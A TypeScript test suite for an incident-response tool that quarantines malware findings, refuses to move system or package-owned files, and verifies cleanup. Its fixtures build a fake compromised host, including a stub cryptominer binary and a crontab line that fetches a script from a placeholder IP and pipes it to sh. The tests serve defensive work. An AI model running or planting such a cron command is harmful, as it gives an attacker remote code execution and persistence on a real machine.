import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as path from "node:path";
import { test } from "node:test";
import { mamori } from "../helpers/cli.ts";
import { rpmFixtures, rpmToolsMissing } from "../helpers/rpm-fixtures.ts";
import { tempDir, writeTree } from "../helpers/tmp.ts";
import { docOf, f } from "../report/scenario.ts";

const ELF = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2]);

function scene(t: { after: (fn: () => void) => void }) {
  const dir = tempDir(t);
  const root = path.join(dir, "root");
  writeTree(root, {
    "etc/passwd": "root:x:0:0:root:/root:/bin/bash\n",
    "usr/bin/kdevtmpfsi": ELF,
    "usr/local/apache2/bin/httpd": ELF,
    "opt/vendor/agent": ELF,
    "var/lib/dpkg/info/vendor-agent.list": "/.\n/opt\n/opt/vendor\n/opt/vendor/agent\n",
    "tmp/kdevtmpfsi": ELF,
    "tmp/memfd-1": ELF,
    "var/spool/cron/crontabs/daemon": "* * * * * curl -s http://198.51.100.7/k | sh\n",
  });
  const report = path.join(dir, "report.json");
  const findings = [
    f({
      id: "file.miner:1",
      check: "file.miner",
      severity: "critical",
      confidence: "confirmed",
      data: { path: "/tmp/kdevtmpfsi" },
    }),
    f({
      id: "file.memfd:1",
      check: "file.memfd",
      severity: "critical",
      confidence: "possible",
      data: { path: "/tmp/memfd-1" },
    }),
    f({
      id: "persistence.cron:1",
      check: "persistence.cron",
      severity: "critical",
      confidence: "confirmed",
      data: { path: "/var/spool/cron/crontabs/daemon", line: 1 },
    }),
  ];
  fs.writeFileSync(
    report,
    JSON.stringify(docOf(findings, { host: { hostname: "web1", root, live: false } })),
  );
  return { dir, root, report, q: path.join(dir, "q") };
}

test("respond refuses system, Apache and package-owned files without --force, in the dry run and with --apply", async (t) => {
  const { root, q } = scene(t);
  const targets = [
    "/etc/passwd",
    "/tmp/../etc//passwd",
    "/usr/bin/kdevtmpfsi",
    "/usr/local/apache2/bin/httpd",
    "/opt/vendor/agent",
  ];
  const args = targets.flatMap((p) => ["--quarantine", p]);
  const dry = await mamori(["respond", ...args, "--root", root, "--quarantine-dir", q, "--lang", "en"]);
  assert.equal(dry.code, 0, "a dry run exits 0");
  assert.match(dry.stdout, /REFUSED: move \/etc\/passwd[^\n]*\n\s+a system file: refused/);
  assert.match(
    dry.stdout,
    /REFUSED: move \/usr\/local\/apache2\/bin\/httpd[^\n]*\n\s+the Apache httpd program/,
  );
  assert.match(
    dry.stdout,
    /REFUSED: move \/opt\/vendor\/agent[^\n]*\n\s+installed by a package[^\n]*: \/opt\/vendor\/agent: vendor-agent/,
  );
  assert.match(dry.stdout, /Nothing above can be applied/);
  assert.doesNotMatch(dry.stdout, /--apply\n/);
  const applied = await mamori([
    "respond",
    ...args,
    "--root",
    root,
    "--quarantine-dir",
    q,
    "--apply",
    "--lang",
    "en",
  ]);
  assert.equal(applied.code, 1);
  for (const p of ["etc/passwd", "usr/bin/kdevtmpfsi", "usr/local/apache2/bin/httpd", "opt/vendor/agent"])
    assert.ok(fs.existsSync(path.join(root, p)), `${p} was moved`);
  const forced = await mamori([
    "respond",
    "--quarantine",
    "/usr/bin/kdevtmpfsi",
    "--root",
    root,
    "--quarantine-dir",
    q,
    "--apply",
    "--force",
  ]);
  assert.equal(forced.code, 0, forced.stdout + forced.stderr);
  assert.equal(fs.existsSync(path.join(root, "usr/bin/kdevtmpfsi")), false);
});

test("the dry run offers --apply only for high-confidence findings, as its own block after a blank line", async (t) => {
  const { root, report, q } = scene(t);
  const dry = await mamori([
    "respond",
    report,
    "--all-critical",
    "--root",
    root,
    "--quarantine-dir",
    q,
    "--lang",
    "en",
  ]);
  assert.equal(dry.code, 0);
  assert.match(dry.stdout, /REFUSED: move \/tmp\/memfd-1[^\n]*\n\s+the finding is only possible/);
  const [plan, rest] = dry.stdout.split(
    "\nTo do this, review the list above, then run (a separate command):\n\n",
  );
  assert.ok(rest, dry.stdout);
  assert.doesNotMatch(plan ?? "", /--apply$/m, "no applying line inside the dry run block");
  const cmd = (rest ?? "").split("\n")[0]?.trim() ?? "";
  assert.match(
    cmd,
    /^mamori respond \S+report\.json --finding file\.miner:1 --finding persistence\.cron:1 --root \S+ --quarantine-dir \S+ --lang en --apply$/,
  );
  assert.doesNotMatch(cmd, /memfd/);
  assert.match(
    dry.stdout,
    /Then check that it worked[^\n]*\n\s+\[ \] \/tmp\/kdevtmpfsi is in the quarantine/,
  );
  // Named on its own, the low-confidence finding is the user's decision.
  const named = await mamori([
    "respond",
    report,
    "--finding",
    "file.memfd:1",
    "--root",
    root,
    "--quarantine-dir",
    q,
  ]);
  assert.match(named.stdout, /would: move \/tmp\/memfd-1/);
});

test("verify says clean after --apply, and names what came back (exit 1)", async (t) => {
  const { root, report, q } = scene(t);
  const none = await mamori(["verify", "--root", root, "--quarantine-dir", q, "--lang", "en"]);
  assert.equal(none.code, 3);
  assert.match(none.stdout, /Nothing to verify/);
  const a = await mamori([
    "respond",
    report,
    "--all-critical",
    "--root",
    root,
    "--quarantine-dir",
    q,
    "--apply",
  ]);
  assert.equal(a.code, 1, "the low-confidence one is refused");
  assert.equal(fs.existsSync(path.join(root, "tmp/memfd-1")), true);
  const v = await mamori(["verify", "--root", root, "--quarantine-dir", q, "--lang", "en"]);
  assert.equal(v.code, 0, v.stdout + v.stderr);
  assert.match(v.stdout, /\[ok\] \/tmp\/kdevtmpfsi is quarantined and not back/);
  assert.match(v.stdout, /\[ok\] line 1 of \/var\/spool\/cron\/crontabs\/daemon is still disabled/);
  assert.match(v.stdout, /Clean now/);
  fs.writeFileSync(path.join(root, "tmp/kdevtmpfsi"), ELF);
  fs.writeFileSync(
    path.join(root, "var/spool/cron/crontabs/daemon"),
    "* * * * * curl -s http://198.51.100.7/k | sh\n",
  );
  const back = await mamori(["verify", "--root", root, "--quarantine-dir", q, "--lang", "ja"]);
  assert.equal(back.code, 1);
  assert.match(back.stdout, /\[未解決\] \/tmp\/kdevtmpfsi が再び存在します/);
  assert.match(back.stdout, /未解決: 2 件が残っています/);
});

test("respond without a report uses the newest stored scan", async (t) => {
  const { dir, root, q } = scene(t);
  const db = path.join(dir, "h.db");
  const fixture = path.resolve("test/fixtures/roots/compromised-2.4.49");
  const saved = await mamori(["audit", "--root", fixture, "--save", "--db", db, "--format", "json"]);
  assert.ok(saved.code === 1, saved.stderr);
  const r = await mamori([
    "respond",
    "--all-critical",
    "--db",
    db,
    "--root",
    root,
    "--quarantine-dir",
    q,
    "--lang",
    "en",
  ]);
  assert.match(r.stderr, /Using the stored scan \S+ of /);
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /^Dry run: nothing was changed/);
});

test("on an rpm host (EL, SUSE) a file a package installed is refused too, from the rpm database", async (t) => {
  const why = rpmToolsMissing();
  if (why) return t.skip(why);
  const db = rpmFixtures().vendorSqlite;
  const dir = tempDir(t);
  const root = path.join(dir, "root");
  writeTree(root, {
    "opt/vendor/agent": ELF,
    "opt/vendor/dropped": ELF,
    "etc/vendor/agent.conf": "x=1\n",
  });
  fs.mkdirSync(path.join(root, "var/lib/rpm"), { recursive: true });
  fs.copyFileSync(db, path.join(root, "var/lib/rpm/rpmdb.sqlite"));
  const q = path.join(dir, "q");
  const args = ["/opt/vendor/agent", "/opt/vendor/../vendor/dropped", "/etc/vendor//agent.conf"].flatMap(
    (p) => ["--quarantine", p],
  );
  const dry = await mamori(["respond", ...args, "--root", root, "--quarantine-dir", q, "--lang", "en"]);
  assert.equal(dry.code, 0, dry.stdout + dry.stderr);
  assert.match(
    dry.stdout,
    /REFUSED: move \/opt\/vendor\/agent[^\n]*\n\s+installed by a package[^\n]*: \/opt\/vendor\/agent: vendor-agent/,
  );
  assert.match(
    dry.stdout,
    /REFUSED: move \/etc\/vendor\/+agent\.conf[^\n]*\n\s+installed by a package[^\n]*vendor-agent/,
  );
  // A file no package installed (dropped beside the agent) may be moved.
  assert.doesNotMatch(dry.stdout, /REFUSED: move \/opt\/vendor\/(\.\.\/vendor\/)?dropped/);
  const applied = await mamori(["respond", ...args, "--root", root, "--quarantine-dir", q, "--apply"]);
  assert.equal(applied.code, 1, "two steps refused");
  assert.ok(fs.existsSync(path.join(root, "opt/vendor/agent")));
  assert.ok(fs.existsSync(path.join(root, "etc/vendor/agent.conf")));
  assert.equal(fs.existsSync(path.join(root, "opt/vendor/dropped")), false, "the unowned file was moved");
});
